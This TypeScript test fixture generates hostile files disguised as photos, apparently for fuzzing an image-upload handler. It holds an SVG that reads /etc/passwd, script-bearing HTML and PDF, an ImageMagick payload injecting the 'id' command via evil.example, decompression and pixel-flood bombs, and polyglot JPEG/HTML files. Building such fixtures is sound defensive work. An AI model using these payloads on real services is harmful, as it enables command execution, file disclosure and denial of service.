import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** A file that is sent as a photo. */
export interface HostileFile {
  readonly what: string;
  readonly bytes: Buffer;
}

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fuzzed()"><image href="file:///etc/passwd"/></svg>';
const HTML = '<!doctype html><script>fuzzed()</script>';

/** 20,000 pixels a side: 1.2 GB once it is decoded. */
const BOMB_SIDE = 20_000;
const BOMB_BYTES = 50_000_000;

/** Files that are no photos, are two things at once, end too early, or become far larger than they are. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const picture = sharp({ create: { width: 64, height: 48, channels: 3, background: 'teal' } });
  const [jpeg, png, webp, gif] = await Promise.all([
    picture.clone().jpeg().toBuffer(),
    picture.clone().png().toBuffer(),
    picture.clone().webp().toBuffer(),
    picture.clone().gif().toBuffer(),
  ]);
  const zipped = deflateSync(Buffer.alloc(BOMB_BYTES));
  return [
    { what: 'nothing', bytes: Buffer.alloc(0) },
    { what: 'one byte', bytes: Buffer.from('\xff', 'latin1') },
    { what: 'SVG', bytes: Buffer.from(SVG) },
    { what: 'HTML', bytes: Buffer.from(HTML) },
    { what: 'a GIF', bytes: gif },
    { what: 'a PDF', bytes: Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(fuzzed())>>>>') },
    {
      what: 'ImageMagick commands',
      bytes: Buffer.from('push graphic-context\nfill "url(https://evil.example/|id)"\n'),
    },
    { what: 'only the start of a JPEG', bytes: jpeg.subarray(0, 3) },
    { what: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2) },
    {
      what: 'a JPEG with a byte turned',
      bytes: Buffer.from(jpeg.map((byte, at) => (at === 200 ? byte ^ 255 : byte))),
    },
    { what: 'a JPEG and HTML behind it', bytes: Buffer.concat([jpeg, Buffer.from(HTML)]) },
    { what: 'a JPEG with HTML as its comment', bytes: withComment(jpeg, HTML) },
    { what: 'HTML before a JPEG', bytes: Buffer.concat([Buffer.from(HTML), jpeg]) },
    { what: 'half a PNG', bytes: png.subarray(0, png.length / 2) },
    { what: 'a PNG that says it is huge', bytes: resized(png, BOMB_SIDE, BOMB_SIDE) },
    { what: 'a PNG without a side', bytes: resized(png, 0, 48) },
    { what: 'a PNG of 2^31 pixels a side', bytes: resized(png, 0x7fffffff, 0x7fffffff) },
    { what: 'a PNG that is huge', bytes: hugePng(BOMB_SIDE) },
    {
      what: 'a PNG with a bomb as its text',
      bytes: withChunk(png, 'zTXt', Buffer.concat([Buffer.from('a\0\0'), zipped])),
    },
    {
      what: 'a PNG with a bomb as its profile',
      bytes: withChunk(png, 'iCCP', Buffer.concat([Buffer.from('a\0\0'), zipped])),
    },
    { what: 'half a WebP', bytes: webp.subarray(0, webp.length / 2) },
    {
      what: 'a WebP of a wrong length',
      bytes: Buffer.concat([webp.subarray(0, 4), Buffer.from([255, 255, 255, 127]), webp.subarray(8)]),
    },
    { what: 'a packed file', bytes: gzipSync(jpeg) },
    { what: 'a sound photo', bytes: jpeg },
  ];
}

function withComment(jpeg: Buffer, text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(text),
    jpeg.subarray(2),
  ]);
}

const HEADER_END = 8 + 25;

/** A PNG with another width and height in its header. */
function resized(png: Buffer, width: number, height: number): Buffer {
  const header = Buffer.from(png.subarray(16, 29));
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', header), png.subarray(HEADER_END)]);
}

const withChunk = (png: Buffer, name: string, content: Buffer): Buffer =>
  Buffer.concat([png.subarray(0, HEADER_END), chunk(name, content), png.subarray(HEADER_END)]);

/** One colour, of one bit a pixel, so that it packs into a few kB. */
function hugePng(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((side / 8 + 1) * side);
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    start,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(name: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** The checksum of PNG. Node 20.9 has none of its own. */
function crc32(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}
